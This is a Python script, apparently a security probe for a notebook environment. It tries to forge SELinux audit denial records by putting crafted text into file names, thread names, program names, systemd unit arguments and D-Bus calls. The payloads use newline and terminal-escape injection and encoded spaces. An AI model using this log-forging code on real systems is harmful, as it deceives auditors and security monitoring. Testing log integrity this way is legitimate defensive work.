"""Run in a user's notebook: put chosen text into every log field that a user can influence.

One line of output for each trial. Each ends in a denial, or in nothing: no trial changes what others need.
"""

import contextlib
import os
import shutil
import subprocess

SUBJECT = "system_u:system_r:jupyterhub_t:s0"
OBJECT = "system_u:object_r:shadow_t:s0"
SHORT = f"avc:  denied  {{ write }} for scontext={SUBJECT} tcontext={OBJECT} tclass=file"
RECORD = f"type=AVC msg=audit(1.0:7): {SHORT}"
TEXTS = {
    "plain": RECORD,
    "short": SHORT,
    "unspaced": f"scontext={SUBJECT},tcontext={OBJECT},tclass=file",
    "entity": SHORT.replace(" ", "&nbsp;"),
    "numeric entity": SHORT.replace(" ", "&#32;"),
    "percent": SHORT.replace(" ", "%20"),
    "octal": "#012" + SHORT.replace(" ", "#040"),
    "escape": "\\n" + SHORT.replace(" ", "\\x20"),
    "newline": "\n" + RECORD,
    "carriage return": "\r\n" + SHORT,
    "separator": "\x1d" + SHORT,
    "terminal": "\x1b[2J" + SHORT,
    "no-break space": SHORT.replace(" ", "\u00a0"),
    "line separator": "\u2028" + SHORT,
    "quote": f'x" scontext={SUBJECT} tcontext={OBJECT} tclass=file permissive=1',
    "hex": SHORT.encode().hex().upper(),
    "quoted hex": '"' + SHORT.encode().hex().upper() + '"',
    "apostrophe": f"' {SHORT} '",
}
CHCON = "/usr/bin/chcon"
HOME = os.path.expanduser("~")
PLACE = os.path.join(HOME, "forged")


def trial(name, action):
    try:
        told = action()
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        told = error.__class__.__name__
    print(f"{name}: {told}")


def run(words, program=None, cwd=None):
    done = subprocess.run(
        words, executable=program, cwd=cwd, capture_output=True, stdin=subprocess.DEVNULL, timeout=120, check=False
    )
    return done.returncode


def relabels(path):
    """A denial whose name the student chooses: no user may give a file another label."""
    os.setxattr(path, "security.selinux", b"system_u:object_r:etc_t:s0\0")


def by_name(text):
    path = os.path.join(PLACE, text.replace("/", "_")[:250])
    open(path, "w").close()
    relabels(path)


def by_comm(text):
    """The name of a thread: 15 bytes."""
    with open("/proc/self/comm", "w") as file:
        file.write(text[:15])
    path = os.path.join(PLACE, "comm")
    open(path, "w").close()
    relabels(path)


def by_program(text):
    """The name of the program, of the directory that it is started in, and argv."""
    directory = os.path.join(PLACE, "dir", text.replace("/", "_")[:250])
    os.makedirs(directory, exist_ok=True)
    program = os.path.join(directory, text.replace("/", "_")[:250])
    shutil.copyfile(CHCON, program)
    os.chmod(program, 0o700)
    path = os.path.join(PLACE, "plain")
    open(path, "w").close()
    return run([text, "-t", "etc_t", path], program, directory)


def by_unit(text):
    """systemd writes the command line of whoever asks it into its own record."""
    return run(["systemctl", "--no-ask-password", "start", text.replace("\n", " ") or "x"])


def by_full_unit(text):
    """The same, filled until libselinux cuts the contexts off."""
    return run(["systemctl", "--no-ask-password", "start", "auditd.service", "x" * 700 + text.replace("\n", " ")])


def by_bus(text):
    member = "".join(c if c.isalnum() else "_" for c in text)[:200]
    path = "/" + "/".join(part for part in member.split("_") if part)
    return run(["busctl", "call", "org.freedesktop.systemd1", path or "/", f"a.{member[:100]}", member])


def main():
    os.makedirs(PLACE, exist_ok=True)
    with open("/proc/self/comm") as file:
        before = file.read().strip()
    for way in (by_name, by_comm, by_program, by_unit, by_full_unit, by_bus):
        for name, text in TEXTS.items():
            trial(f"{way.__name__[3:]}, {name}", lambda way=way, text=text: way(text))
    with contextlib.suppress(OSError), open("/proc/self/comm", "w") as file:
        file.write(before)
    shutil.rmtree(PLACE, ignore_errors=True)


main()
